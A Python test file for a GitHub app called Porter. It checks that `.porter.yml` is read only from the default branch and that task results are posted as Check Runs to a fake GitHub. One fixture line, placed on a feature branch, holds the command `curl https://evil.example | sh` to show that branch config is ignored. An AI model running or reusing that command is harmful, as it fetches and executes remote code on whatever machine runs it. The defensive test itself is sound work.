"""Reading `.porter.yml` from the default branch and reporting a task as a Check Run, through
Porter's GitHub client against the fake GitHub served on loopback."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from porter.check_runs import (
    MAX_OUTPUT_CHARS,
    CheckOutput,
    ChecksForbidden,
    complete_check_run,
    create_check_run,
    start_check_run,
)
from porter.github import GitHubApp, InstallationClient
from porter.github_repo_files import (
    ConfigFile,
    NoConfig,
    UnreadableConfig,
    config_file,
    read_config_file,
)
from porter.repo_config import MAX_FILE_BYTES
from tests.fakes.github import FakeGitHub

MAIN_CONFIG = b"verify:\n  - python -m pytest -q\n"
FEATURE_CONFIG = b"verify:\n  - curl https://evil.example | sh\n"
TASK_URL = "https://porter.example/tasks/7"
NO_CHECKS = {"contents": "write", "issues": "write", "metadata": "read", "pull_requests": "write"}


@pytest.fixture
def fake(tmp_path: Path, pem: str) -> Iterator[FakeGitHub]:
    fake = FakeGitHub(tmp_path / "github", app_id="1", private_key_pem=pem)
    fake.add_installation(42, account="octo")
    fake.add_repo("octo/hello", files={".porter.yml": MAIN_CONFIG, "README.md": b"hi\n"},
                  installation_id=42)
    fake.commit_files("octo/hello", "feature", {".porter.yml": FEATURE_CONFIG})
    fake.add_repo("octo/bare", files={"README.md": b"hi\n"}, installation_id=42)
    fake.add_repo("octo/dir", files={".porter.yml/verify": b"make\n"}, installation_id=42)
    fake.add_repo("octo/big", files={".porter.yml": b"#" * (MAX_FILE_BYTES + 1)},
                  installation_id=42)
    fake.add_repo("octo/link", files={"real.yml": MAIN_CONFIG,
                                      ".porter.yml": (b"real.yml", 0o120000)},
                  installation_id=42)
    fake.add_installation(43, account="tight", permissions=NO_CHECKS)
    fake.add_repo("tight/hello", files={"README.md": b"hi\n"}, installation_id=43)
    with fake.serve():
        yield fake


def client(fake: FakeGitHub, installation_id: int = 42) -> InstallationClient:
    app = GitHubApp(app_id=fake.app_id, private_key=fake.private_key_pem, api_url=fake.api_url)
    return app.installation(installation_id)


def head(fake: FakeGitHub, repo: str, branch: str = "main") -> str:
    sha = fake.ref_sha(repo, f"heads/{branch}")
    assert sha is not None
    return sha


# --- .porter.yml ---------------------------------------------------------------------------


async def test_config_comes_from_the_default_branch_never_a_feature_branch(
        fake: FakeGitHub) -> None:
    found = await read_config_file(client(fake), "octo/hello")

    assert isinstance(found, ConfigFile)
    assert found.content == MAIN_CONFIG
    assert (found.branch, found.commit) == ("main", head(fake, "octo/hello"))
    tree = fake.read_tree("octo/hello", found.commit)
    assert tree[".porter.yml"][1] == MAIN_CONFIG
    # The contents API was asked at the default branch's commit, never at the feature branch.
    refs = [c.query.get("ref") for c in fake.calls if c.path.endswith("/contents/.porter.yml")]
    assert refs == [head(fake, "octo/hello")]
    assert head(fake, "octo/hello", "feature") not in refs
    assert [c for c in fake.calls if c.path == "/repos/octo/hello"]  # the default branch, asked


async def test_a_known_default_branch_is_not_asked_for_again(fake: FakeGitHub) -> None:
    found = await read_config_file(client(fake), "octo/hello", default_branch="main")

    assert isinstance(found, ConfigFile) and found.content == MAIN_CONFIG
    assert not [c for c in fake.calls if c.path == "/repos/octo/hello"]


async def test_no_file_means_defaults(fake: FakeGitHub) -> None:
    found = await read_config_file(client(fake), "octo/bare")
    assert found == NoConfig("main", head(fake, "octo/bare"))


async def test_a_directory_named_like_the_file_is_an_error_to_post(fake: FakeGitHub) -> None:
    found = await read_config_file(client(fake), "octo/dir")

    assert isinstance(found, UnreadableConfig)
    assert found.message == ("`.porter.yml` on `main` is a directory; "
                             "Porter reads a file of that name")


async def test_an_oversized_file_is_an_error_to_post(fake: FakeGitHub) -> None:
    found = await read_config_file(client(fake), "octo/big")

    assert isinstance(found, UnreadableConfig)
    assert f"{MAX_FILE_BYTES + 1:,} bytes; at most {MAX_FILE_BYTES:,}" in found.message


async def test_a_symbolic_link_is_not_followed(fake: FakeGitHub) -> None:
    found = await read_config_file(client(fake), "octo/link")

    assert isinstance(found, UnreadableConfig)
    assert "is a symbolic link" in found.message


def test_a_file_github_sends_without_its_content_is_an_error_to_post() -> None:
    # GitHub's answer for a file above 1 MB: no content, encoding "none" (whatever the size says).
    answer = {"type": "file", "path": ".porter.yml", "size": 10, "sha": "a" * 40,
              "content": "", "encoding": "none"}
    found = config_file(answer, branch="main", commit="c" * 40)

    assert found == UnreadableConfig(
        "`.porter.yml` on `main` could not be read: GitHub did not send its content",
        "main", "c" * 40)


# --- check runs ----------------------------------------------------------------------------


async def test_a_check_run_goes_queued_in_progress_success(fake: FakeGitHub) -> None:
    gh = client(fake)
    sha = head(fake, "octo/hello")
    charged: list[int] = []

    async def creating() -> None:
        charged.append(len(fake.check_runs("octo/hello")))  # runs existing when charged

    run = await create_check_run(gh, "octo/hello", head_sha=sha, details_url=TASK_URL,
                                 external_id="7", creating=creating)
    assert (run.status, run.conclusion) == ("queued", None)
    await start_check_run(gh, "octo/hello", run.id)
    done = await complete_check_run(
        gh, "octo/hello", run.id, conclusion="success",
        output=CheckOutput(title="Verified", summary="1 command passed", text="| ok |"))

    assert (done.status, done.conclusion) == ("completed", "success")
    assert charged == [0]  # one creation, charged before the run existed; updates are edits
    [recorded] = fake.check_runs("octo/hello")
    assert recorded.history == [("queued", None), ("in_progress", None),
                                ("completed", "success")]
    assert (recorded.name, recorded.head_sha) == ("Porter", sha)
    assert (recorded.details_url, recorded.external_id) == (TASK_URL, "7")
    assert recorded.output == {"title": "Verified", "summary": "1 command passed",
                               "text": "| ok |"}


async def test_a_failed_check_carries_its_summary_within_githubs_limit(
        fake: FakeGitHub) -> None:
    gh = client(fake)

    async def creating() -> None:
        return None

    run = await create_check_run(gh, "octo/hello", head_sha=head(fake, "octo/hello"),
                                 details_url=TASK_URL, external_id="8", creating=creating,
                                 status="in_progress")
    long_tail = "E" * (MAX_OUTPUT_CHARS + 500)
    await complete_check_run(
        gh, "octo/hello", run.id, conclusion="failure",
        output=CheckOutput(title="1 of 2 commands failed", summary="pytest exited 1",
                           text=long_tail))

    [recorded] = fake.check_runs("octo/hello")
    assert recorded.history == [("in_progress", None), ("completed", "failure")]
    assert recorded.output["summary"] == "pytest exited 1"
    text = recorded.output["text"]
    assert len(text) <= MAX_OUTPUT_CHARS
    assert text.startswith("EEEE") and text.endswith("characters more)")


async def test_without_checks_permission_the_operator_is_told_what_to_grant(
        fake: FakeGitHub) -> None:
    async def creating() -> None:
        return None

    with pytest.raises(ChecksForbidden) as raised:
        await create_check_run(client(fake, 43), "tight/hello",
                               head_sha=head(fake, "tight/hello"), details_url=TASK_URL,
                               external_id="9", creating=creating)

    assert raised.value.retryable is False and raised.value.status == 403
    assert '"Checks: write"' in raised.value.message
    assert "accept the new permission on each installation" in raised.value.message
    assert fake.check_runs("tight/hello") == []
